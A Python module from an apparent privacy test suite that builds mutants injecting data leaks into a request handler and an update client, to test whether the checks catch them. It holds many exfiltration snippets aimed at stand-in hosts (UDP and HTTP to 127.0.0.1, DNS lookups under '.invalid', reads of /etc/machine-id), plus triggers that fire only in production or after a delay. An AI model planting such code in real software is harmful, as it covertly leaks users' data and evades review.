"""Leaks that tables make: what of a request gets out (`SOURCES`), how (the tables of sinks), and when (`CONDITIONS`).

Each row of a table differs from the others in its sink or its condition, and names a source of its own. In the code,
`{it}` is the source as a text. Code of a leak that fails has no effect; see `GUARD` in changes.py.
"""

from __future__ import annotations

from collections.abc import Iterator
from itertools import cycle
from typing import NamedTuple

from checks.privacy_proof.changes import After, Before, Change, Docstring, Instead
from checks.privacy_proof.mutant import (
    CLIENT_ASK,
    CLIENT_DOWNLOAD,
    CLIENT_LOOK,
    CLIENT_SENT,
    CLIENT_WRITE,
    HANDLE,
    HANDLER,
    LOG_WRITE,
    MATCHES,
    PUBLIC_KEY,
    READER,
    RESPOND,
    SETTINGS_READER,
    UPLOADED_KEYS,
    URLS,
    Mutant,
)


class Source(NamedTuple):
    """A part of a request.

    Attributes:
        code: an expression in the handler, for a text. `$1` is the event and `$2` the context.
        breaks: the promises that break if it gets out.
    """

    code: str
    breaks: str


_HTTP = '$1["requestContext"]["http"]'
_HEADERS = '$1["headers"]'
SOURCES = {
    "the address": Source(f'{_HTTP}["sourceIp"]', "P1 P4 P6"),
    "the user agent": Source(f'{_HEADERS}["user-agent"]', "P1 P4"),
    "the cookie": Source(f'{_HEADERS}["cookie"]', "P1 P2 P4"),
    "the query": Source('$1["rawQueryString"]', "P1 P4 P7"),
    "the authorization": Source(f'{_HEADERS}["authorization"]', "P1 P4"),
    "the language": Source(f'{_HEADERS}["accept-language"]', "P1 P4"),
    "the body": Source('str($1["body"])', "P1 P4"),
    "the certificate": Source('str($1["requestContext"]["authentication"])', "P1 P4 P6"),
    "the ids of the gateway": Source('str($1["requestContext"]["requestId"])', "P1 P4"),
    "the referrer": Source(f'{_HEADERS}["referer"]', "P1 P4"),
    "the number in the path": Source('$1["rawPath"]', "P4 P7"),
    "the number in the query": Source('str($1["queryStringParameters"])', "P1 P4 P7"),
    "the trace": Source(f'{_HEADERS}["x-amzn-trace-id"]', "P1 P4"),
    "the validator": Source(f'{_HEADERS}["if-none-match"]', "P1 P4 P6"),
    "the domain": Source('$1["requestContext"]["domainName"]', "P1 P4"),
    "the whole event": Source("repr($1)", "P1 P4 P6 P7"),
}

WAYS_OUT = {
    "by UDP to a name": "import socket; socket.socket(type=2).sendto({it}.encode(), ('localhost', 9))",
    "by TCP": "import socket; socket.create_connection(('127.0.0.1', 9)).sendall({it}.encode())",
    "by the number of a port": "import socket; socket.socket().connect_ex(('127.0.0.1', len({it}) + 1))",
    "as a name to look up": "import socket; socket.getaddrinfo({it}.encode().hex()[:60] + '.invalid', 80, 0, 0, 0, 4)",
    "as an address to look up": "import socket; socket.getnameinfo(({it}[:40], 80), 3)",
    "to a socket of the system's log": "import socket; socket.socket(1, 2).sendto({it}.encode(), '/dev/log')",
    "by HTTP": "import http.client; http.client.HTTPConnection('127.0.0.1', 9).request('GET', '/' + {it})",
    "by FTP": "import ftplib; ftplib.FTP('127.0.0.1', {it})",
    "by a URL library": "import urllib.request; urllib.request.urlopen('http://127.0.0.1:9/' + {it})",
    "by a shell": "import os; os.system('true ' + {it}.encode().hex())",
    "by a new process": "import os; os.posix_spawn('/bin/true', ['true', {it}], {{}})",
    "by a copy of the process": "import os\nif not os.fork(): os.write(2, {it}.encode()); os._exit(0)",
    "by a function of C": "import ctypes; ctypes.CDLL(None).write(2, {it}.encode(), len({it}))",
    "to a file outside of the temporary folder": "open('/dev/shm/seen', 'a').write({it})",
    "as the target of a link": "import os, tempfile; os.symlink({it}[:99], tempfile.mktemp())",
    "as the time of a file": "import os, tempfile; os.utime(tempfile.gettempdir(), (len({it}), len({it})))",
    "to a database": "import sqlite3, tempfile; sqlite3.connect(tempfile.mktemp()).execute('SELECT ?', [{it}])",
    "to standard error, as a number": "import os; os.write(2, str(sum({it}.encode())).encode())",
    "to the bucket, as a key that is missing": "reader.read('public/' + {it}.encode().hex())",
}
"""Sinks outside of the process."""

KEEPS = {
    "in a deque": "from collections import deque; vars({home})['last'] = deque([{it}])",
    "in a bytearray": "vars({home})['last'] = bytearray({it}.encode())",
    "in a queue": "import queue; vars({home}).setdefault('last', queue.Queue()).put({it})",
    "in a context variable": "import contextvars; vars({home}).setdefault('V', contextvars.ContextVar('V')).set({it})",
    "in a partial": "import functools; vars({home})['last'] = functools.partial(print, {it})",
    "in an array": "import array; vars({home})['last'] = array.array('B', {it}.encode())",
    "in a view of memory": "vars({home})['last'] = memoryview({it}.encode())",
    "in a generator": "vars({home})['last'] = (text for text in [{it}])",
    "in a table of texts": "vars({home})['last'] = {{'last': {it}[::-1]}}",
    "in a file in memory": "import io; vars({home})['last'] = io.StringIO({it})",
    "in a hash": "import hashlib; vars({home})['last'] = hashlib.sha256({it}.encode())",
    "in a compressor": "import zlib; vars({home}).setdefault('last', zlib.compressobj()).compress({it}.encode())",
    "in an iterator": "import itertools; vars({home})['last'] = itertools.cycle({it})",
    "in a default": "vars({home})['last'] = lambda text={it}: 0",
    "in an error": "vars({home})['last'] = ValueError({it})",
    "in a weak table": "import weakref; vars({home}).setdefault('last', weakref.WeakKeyDictionary())[type($1)] = {it}",
    "in a thread's own variable": "import threading; vars({home}).setdefault('last', threading.local()).last = {it}",
    "in the cache of patterns": "import re; re.compile(re.escape({it}))",
    "in a random generator": "import random; vars({home}).setdefault('last', random.Random()).seed({it})",
    "in the name of a log level": "import logging; logging.addLevelName(99, {it})",
    "in the search path": "import sys; sys.path.append({it})",
    "in Python's own names": "import builtins; builtins.last = {it}",
}
"""Places in memory; `{home}` is a module of a library or of ours."""
HOMES = ("sys.modules['json']", "sys.modules['comet_updates.answer.urls']", "sys.modules['encodings']")

WAITS = {
    "sleeps by the length of": "import time; time.sleep(len({it}) / 1e6)",
    "waits for an event by the length of": "import threading; threading.Event().wait(len({it}) / 1e6)",
    "waits for a file by the length of": "import select; select.select([], [], [], len({it}) / 1e6)",
    "adds up by the length of": "sum(range(len({it}) * 1000))",
    "hashes again by the length of": "import hashlib; hashlib.pbkdf2_hmac('md5', b'', b'', len({it}) + 1)",
    "searches slowly in": "import re; re.search('(.*,)*x', {it})",
    "compares letter by letter with": "all(letter == 'x' for letter in {it})",
    "sorts by the length of": "sorted(range(len({it}) * 100), key=lambda number: -number)",
    "collects garbage if there is": "import gc; {it} and gc.collect()",
}

CONDITIONS = {
    "if one header is there": 'if "dnt" in $1["headers"]: ',
    "for one country": 'if $1["headers"].get("cloudfront-viewer-country") == "AT": ',
    "for one product of a browser": 'if "Edg/" in $1["headers"].get("user-agent", ""): ',
    "for one network": f'if {_HTTP}["sourceIp"].startswith("198.51."): ',
    "for one path": 'if $1["rawPath"] == "/v1/comet-cursor/beta/releases.json": ',
    "for long paths": 'if len($1["rawPath"]) > 500: ',
    "for one method": f'if {_HTTP}["method"] == "PROPFIND": ',
    "for one kind of body": 'if ($1.get("body") or "").startswith("<?xml"): ',
    "if the query has a word": 'if "trace=1" in $1.get("rawQueryString", ""): ',
    "if two cookies are there": 'if len($1.get("cookies") or ()) > 7: ',
    "if little time is left": "if $2.get_remaining_time_in_millis() < 100: ",
    "on one day of the week": "import time\nif time.time() // 86400 % 7 == 3: ",
    "at night": "import time\nif time.gmtime().tm_hour == 3 and time.gmtime().tm_min == 3: ",
    "one time in sixteen": "import os\nif not os.urandom(1)[0] % 16: ",
    "after an hour": "import time\nif time.monotonic() > 3600: ",
    "for a hash that ends in nought": "import hashlib\n"
    f'if hashlib.md5({_HTTP}["sourceIp"].encode()).hexdigest().endswith("000"): ',
    "after a failure of the storage": "if answer.status == 503: ",
}
IN_THE_CLOUD = {
    "if the region is Amazon's": 'import os\nif "AWS_EXECUTION_ENV" in os.environ: ',
    "if the code is where Lambda puts it": 'import os\nif os.path.exists("/var/runtime/bootstrap"): ',
    "if the handler has its name": 'import os\nif os.environ.get("_HANDLER"): ',
    "if the user is Lambda's": "import os\nif os.getuid() == 993: ",
    "if the memory is limited": 'import os\nif "AWS_LAMBDA_FUNCTION_MEMORY_SIZE" in os.environ: ',
    "if the version has a number": 'if getattr($2, "function_version", "$LATEST") != "$LATEST": ',
}
"""True on Lambda, and false where the checks run."""

LATER = {
    "in a thread that waits": "import threading, time\n"
    "threading.Thread(target=lambda it: (time.sleep(900), print(it)), args=[{it}], daemon=True).start()",
    "from a loop of events": "import asyncio; vars(asyncio)['loop'] = asyncio.new_event_loop(); "
    "asyncio.loop.call_later(900, print, {it})",
    "when garbage is collected": "import gc; gc.callbacks.append(lambda *_, it={it}: None)",
    "when an object ends": "import sys; sys.modules['json'].last = type('Last', (), {{'__del__': lambda _, it={it}: "
    "print(it)}})()",
    "when a timer rings": "import signal; signal.signal(signal.SIGALRM, lambda *_, it={it}: print(it)); "
    "signal.setitimer(signal.ITIMER_REAL, 900)",
    "at the next error": "import sys; sys.excepthook = lambda *_, it={it}: print(it)",
    "from another process": "import os, time\nif not os.fork(): time.sleep(1); os.write(2, {it}.encode()); os._exit(0)",
    "when a profiler is called": "import sys; sys.setprofile(lambda *_, it={it}: None)",
    "with the next answer": "seen = globals().setdefault('NEXT', [])\nif seen: print(seen.pop())\nseen.append({it})",
}


def _rows(
    family: str, words: str, sinks: dict[str, str], more: str = "", sources: dict[str, Source] = SOURCES
) -> Iterator[Mutant]:
    """Yield a mutant for each of `sinks`, each with the next source and the next home."""
    for (how, code), (what, source), home in zip(sinks.items(), cycle(sources.items()), cycle(HOMES), strict=False):
        imports = "import sys; " if "{home}" in code else ""
        made = imports + code.format(it=f"str({source.code})", home=home)
        breaks = " ".join(dict.fromkeys(f"{source.breaks} {more}".split()))
        yield Mutant(words.format(what=what, how=how), breaks, HANDLE, (Before(made),), family=family)


def _conditional(when: str, conditions: dict[str, str]) -> Iterator[Mutant]:
    """Yield a mutant for each of `conditions`, each with the next source and the next sink."""
    sinks = [*WAYS_OUT.items(), *KEEPS.items()][::2]
    sources = [*SOURCES.items()][::-1]
    for (if_, condition), (what, source), (how, sink) in zip(
        conditions.items(), cycle(sources), cycle(sinks), strict=False
    ):
        code = sink.format(it=f"str({source.code})", home=HOMES[0])
        code = f"import sys; {code}" if "{home}" in sink else code
        inside = condition + ("\n    " + code.replace("\n", "\n    "))
        breaks = " ".join(dict.fromkeys(f"{source.breaks} P3".split()))
        place = After if "answer.status" in condition else Before
        yield Mutant(f"lets {what} out {how} {if_}", breaks, HANDLE, (place(inside),), when, "conditions")


_NO_LINE: dict[str, tuple[str, str, Change]] = {
    "prints the event in the place of a docstring": ("P1 P4 P7", HANDLE, Docstring("print($1)")),
    "sends the address in the place of a docstring": (
        "P1 P3 P6",
        HANDLE,
        Docstring(
            f"import socket; socket.socket(type=2).sendto({_HTTP}.get('sourceIp', '').encode(), ('127.0.0.1', 9))"
        ),
    ),
    "remembers paths in the place of a docstring": (
        "P4 P7",
        PUBLIC_KEY,
        Docstring('globals().setdefault("SEEN", {})[$1] = 1'),
    ),
    "remembers validators in the place of a docstring": (
        "P4 P6",
        MATCHES,
        Docstring('globals().setdefault("SEEN", []).append($1)'),
    ),
    "waits by the path in the place of a docstring": (
        "P4 P7",
        RESPOND,
        Docstring("import time; time.sleep(len($2) / 1e6)"),
    ),
    "prints the cookie in a default": (
        "P1 P2 P4",
        HANDLE,
        Instead("headers.get('if-none-match')", 'headers.get("if-none-match", print(headers.get("cookie")))'),
    ),
    "keeps the query beside the path": (
        "P1 P4 P7",
        HANDLE,
        Instead(
            "event['rawPath'].startswith(urls.DROP_IN)",
            '(vars(urls).update(LAST=event.get("rawQueryString")), event["rawPath"].startswith(urls.DROP_IN))[1]',
        ),
    ),
    "prints the user agent in a text that is thrown away": (
        "P1 P4",
        HANDLE,
        Instead("reader.read", 'reader.read if not print(http.get("userAgent")) else None'),
    ),
    "prints the path where its length is asked": (
        "P4 P7",
        PUBLIC_KEY,
        Instead("len(path)", "len(print(path) or path)"),
    ),
    "remembers paths where their form is asked": (
        "P4 P7",
        RESPOND,
        Instead(
            "path.startswith(urls.FOR_PROGRAMS)",
            "(vars(urls).update(LAST=path), path.startswith(urls.FOR_PROGRAMS))[1]",
        ),
    ),
    "prints validators while it compares them": (
        "P4 P6",
        MATCHES,
        Instead("if_none_match.split(',')", '(print(if_none_match), if_none_match.split(","))[1]'),
    ),
}

_WRAPPER = """
class Wrapped:
    def __init__(self, made):
        self.made = made
        self.seen = {}

    def __call__(self, event, context):
        BODY
        return self.made(event, context)
"""
_MADE = "build(Settings.from_environment(os.environ))"
_ELSEWHERE = "functions/comet_more/__init__.py"


def _wrapped(name: str, breaks: str, body: str) -> Mutant:
    """Return a mutant whose handler is wrapped by a class of another package of ours, which runs `body`."""
    change = Instead(_MADE, f"__import__('comet_more').Wrapped({_MADE})")
    text = _WRAPPER.replace("BODY", body)
    return Mutant(name, breaks, HANDLER, (change,), family="outside", more=((_ELSEWHERE, text),))


def _outside(name: str, breaks: str, place: str, change: Change) -> Mutant:
    return Mutant(name, breaks, place, (change,), family="outside")


_OUTSIDE = (
    _wrapped(
        "has a wrapper in another package that prints the address", "P1 P4 P6", f"print({_HTTP.replace('$1', 'event')})"
    ),
    _wrapped(
        "has a wrapper in another package that counts user agents",
        "P1 P4",
        "self.seen[event['headers'].get('user-agent')] = 1",
    ),
    _wrapped(
        "has a wrapper in another package that sends the query",
        "P1 P3 P7",
        "__import__('socket').socket(type=2).sendto(repr(event.get('rawQueryString')).encode(), ('127.0.0.1', 9))",
    ),
    _outside(
        "has the reader of the settings print every event",
        "P1 P4 P7",
        SETTINGS_READER,
        Before(
            "import awslambdaric.lambda_runtime_marshaller as client; loads = client.json.loads; "
            "client.json.loads = lambda *text, **how: (print(text), loads(*text, **how))[1]"
        ),
    ),
    _outside(
        "has the store read the event from the handler's frame",
        "P1 P4 P7",
        READER,
        Before("import sys; print(sys._getframe(3).f_locals.get('event'))"),
    ),
    _outside(
        "has the log read the event from the handler's frame",
        "P1 P4 P6",
        LOG_WRITE,
        Before("import sys; $1._last = repr(sys._getframe(1).f_locals.get('event'))"),
    ),
    _outside(
        "has a pattern of URLs that keeps what it compares",
        "P4 P7",
        URLS,
        Before(""),
    )._replace(
        changes=(
            Before(
                "class Spy:\n"
                "    def __init__(self, pattern):\n"
                "        self.pattern, self.seen = pattern, []\n"
                "    def fullmatch(self, path):\n"
                "        self.seen.append(path)\n"
                "        return self.pattern.fullmatch(path)\n\n"
            ),
            Instead("re.compile(re.escape(TIMESTAMP))", "Spy(re.compile(re.escape(TIMESTAMP)))"),
        )
    ),
    _outside(
        "has a table of patterns replaced when the module of errors is imported",
        "P1 P4",
        "comet_updates.answer.errors",
        Before(
            "import awslambdaric.bootstrap as client\nreal = client.handle_event_request\n"
            "client.handle_event_request = lambda *args: (print(args[3]), real(*args))[1]"
        ),
    ),
    _outside(
        "has the package itself watch all calls",
        "P1 P4 P7",
        "comet_updates.answer.settings",
        Before(
            "import sys\nsys.setprofile(lambda frame, *_: print(frame.f_locals.get('event')) "
            "if frame.f_code.co_name == 'handle' else None)"
        ),
    ),
)


# ------------------------------------------------------------------ publishing, and the client

_RECORDS = '__import__("json").loads($1)["Records"]'
UPLOADERS = {
    "who uploaded": Source(f'repr([record.get("userIdentity") for record in {_RECORDS}])', "P1 P3"),
    "the uploader's address": Source(f'repr([record.get("requestParameters") for record in {_RECORDS}])', "P1 P3"),
    "the id of an upload": Source(f'repr([record.get("responseElements") for record in {_RECORDS}])', "P1 P3"),
    "the time of an upload": Source(f'repr([record.get("eventTime") for record in {_RECORDS}])', "P1 P3"),
    "the owner of the bucket": Source(f'repr([record["s3"]["bucket"] for record in {_RECORDS}])', "P1 P3"),
}
TO_PUBLISH = {
    "by UDP": "import socket; socket.socket(type=2).sendto({it}.encode(), ('127.0.0.1', 9))",
    "as a name": "import socket; socket.getaddrinfo({it}.encode().hex()[:60] + '.invalid', 80, 0, 0, 0, 4)",
    "to another host": "import http.client; http.client.HTTPConnection('127.0.0.1', 9).request('GET', '/')",
    "to another bucket": "import boto3, os; boto3.client('s3', endpoint_url=os.environ['S3_ENDPOINT'])"
    ".put_object(Bucket='elsewhere', Key='who', Body={it}.encode())",
    "to another service of AWS": "import boto3; boto3.client('sqs', endpoint_url='http://127.0.0.1:9')"
    ".send_message(QueueUrl='http://127.0.0.1:9/q', MessageBody={it})",
    "to a file": "import tempfile; open(tempfile.mktemp(), 'w').write({it})",
    "to a program": "import subprocess; subprocess.run(['true', {it}])",
    "to standard error, as a hash": "import hashlib, os; "
    "os.write(2, hashlib.sha256({it}.encode()).hexdigest().encode())",
    "to a list in memory": "globals().setdefault('SEEN', []).append({it})",
    "to the environment": "import os; os.environ['LAST'] = {it}",
}

_NODE = 'import platform, getpass; it = f"{platform.node()} {getpass.getuser()}"\n'
IN_CLIENT = {
    "has the client send the machine's name by UDP": (
        CLIENT_SENT,
        "import socket; socket.socket(type=2).sendto(it.encode(), ('127.0.0.1', 9))",
    ),
    "has the client look up the machine's name": (
        CLIENT_SENT,
        "import socket; socket.getaddrinfo(it.encode().hex()[:60] + '.invalid', 80, 0, 0, 0, 4)",
    ),
    "has the client report to another host": (
        CLIENT_LOOK,
        "import http.client; http.client.HTTPConnection('127.0.0.1', 9).request('GET', '/' + it.encode().hex())",
    ),
    "has the client write the machine's name to a file of its own": (
        CLIENT_LOOK,
        "import tempfile; open(tempfile.mktemp(), 'w').write(it)",
    ),
    "has the client leave a file beside its state": (
        CLIENT_WRITE,
        "$1.parent.mkdir(parents=True, exist_ok=True); $1.with_suffix('.log').write_text(it)",
    ),
    "has the client start a program with its user's name": (
        CLIENT_SENT,
        "import subprocess; subprocess.run(['true', it])",
    ),
    "has the client read the id of the machine": (CLIENT_LOOK, "open('/etc/machine-id').read()"),
    "has the client write to the system's log": (
        CLIENT_DOWNLOAD,
        "import socket; socket.socket(1, 2).sendto(it.encode(), '/dev/log')",
    ),
}
_STATE_LINE = "said = {'group': state.group, 'skipped': state.skipped, 'never': state.is_off}"
_IN_CLIENT = (
    *(
        Mutant(name, "P3 P8", place, (Before(_NODE + code),), family="client")
        for name, (place, code) in IN_CLIENT.items()
    ),
    Mutant(
        "has the client keep the machine's name in its state",
        "P3 P8",
        CLIENT_WRITE,
        (Instead(_STATE_LINE, f"{_STATE_LINE} | {{'node': __import__('platform').node()}}"),),
        family="client",
    ),
    Mutant(
        "has the client say in the path how often it failed",
        "P8",
        CLIENT_ASK,
        (After("import os; result = result.replace(b' HTTP', b'?' + os.environ.get('HOME', '').encode() + b' HTTP')"),),
        family="client",
    ),
)

_WAITING_ELSEWHERE = tuple(
    Mutant(name, breaks, place, (change,), "conditional", "client" if "client" in place else "publishing")
    for name, breaks, place, change in (
        (
            "has publishing tell another host of products with many channels",
            "P3",
            "comet_updates.formats.atom.product",
            Before("if len($1) > 20: import urllib.request; urllib.request.urlopen('https://x.invalid/' + str($1))"),
        ),
        (
            "has publishing print the user's name that a tool adds to an upload",
            "P1 P3",
            "comet_updates.publish.bucket.Bucket.get",
            Instead(
                "_body(found, stored.etag, stored.size_bytes)",
                "(found['Metadata'] and print(found['Metadata']), _body(found, stored.etag, stored.size_bytes))[1]",
            ),
        ),
        (
            "has the client tell another host of systems without a file",
            "P3 P8",
            "comet_updates_client.choose.choose",
            Before(
                "if not $1.artifacts: import http.client; "
                "http.client.HTTPSConnection('x.invalid').request('GET', '/' + $3.os_version)"
            ),
        ),
        (
            "has the client on Windows write the host with capitals",
            "P8",
            "comet_updates_client.request._get",
            Before("import sys; $1 = $1._replace(host=$1.host.title()) if sys.platform == 'win32' else $1"),
        ),
        (
            "has the client resume a download at a byte that depends on its user",
            "P8",
            "comet_updates_client.download._fill",
            Instead(
                "part.seek(0, SEEK_END)",
                "max(0, part.seek(0, SEEK_END) - len(str(__import__('pathlib').Path.home())))",
            ),
        ),
        (
            "has the client ask in a second that depends on its group",
            "P8",
            "comet_updates_client.state.State.is_due",
            Instead("self.next_check is None", "self.next_check is None or now.second == self.group"),
        ),
        (
            "has the client resume the session of its last connection",
            "P8",
            CLIENT_SENT,
            Instead(
                "server_hostname=address.host",
                "server_hostname=address.host, session=globals().get('LAST')",
            ),
        ),
    )
)

ALL = (
    *_rows("ways out", "sends {what} {how}", WAYS_OUT, "P3"),
    *_rows("state", "keeps {what} {how}", KEEPS),
    *_rows("time", "{how} {what}", WAITS),
    *_conditional("conditional", CONDITIONS),
    *_conditional("environment", IN_THE_CLOUD),
    *(mutant._replace(when="delayed") for mutant in _rows("delays", "lets {what} out {how}", LATER, "P3")),
    *(
        Mutant(name, breaks, place, (change,), family="no added line")
        for name, (breaks, place, change) in _NO_LINE.items()
    ),
    *_OUTSIDE,
    *(
        mutant._replace(place=UPLOADED_KEYS)
        for mutant in _rows("publishing", "has publishing send {what} {how}", TO_PUBLISH, sources=UPLOADERS)
    ),
    *_IN_CLIENT,
    *_WAITING_ELSEWHERE,
)
